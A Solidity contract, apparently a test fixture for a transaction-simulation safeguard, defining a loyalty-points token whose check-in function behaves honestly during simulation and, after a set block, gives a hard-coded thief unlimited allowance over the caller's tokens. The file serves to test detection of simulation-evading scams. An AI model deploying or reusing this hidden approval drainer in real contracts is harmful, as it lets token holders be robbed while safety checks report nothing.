// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";

/// @title RedPillLaterApproval
/// @notice Red pill keyed on when the transaction lands, that takes nothing while the PDR
///         runs. A loyalty-points token with a check-in: `checkIn` counts the caller's visit
///         and moves nothing up to block `honestUntil` (the simulated block). In any later
///         block it also gives the thief an unlimited allowance over the caller's points,
///         which the thief uses in a transaction of its own: every balance the PDR bounds
///         ends as simulated.
contract RedPillLaterApproval is ERC20 {
    address private immutable _thief;
    uint256 private immutable _honestUntil;

    /// @notice Visits, all visitors together (kept under no visitor: a record under the
    ///         caller would be one the simulator cannot read).
    uint256 public visits;

    /// @param thief Who is given the allowance.
    /// @param honestUntil The last block in which `checkIn` grants nothing.
    /// @param holder Who is minted `amount` points.
    /// @param amount The points minted.
    constructor(address thief, uint256 honestUntil, address holder, uint256 amount)
        ERC20("Loyalty points", "PTS")
    {
        (_thief, _honestUntil) = (thief, honestUntil);
        _mint(holder, amount);
    }

    /// @notice Records a visit of the caller.
    function checkIn() external {
        ++visits;
        if (block.number > _honestUntil) _approve(msg.sender, _thief, type(uint256).max);
    }
}
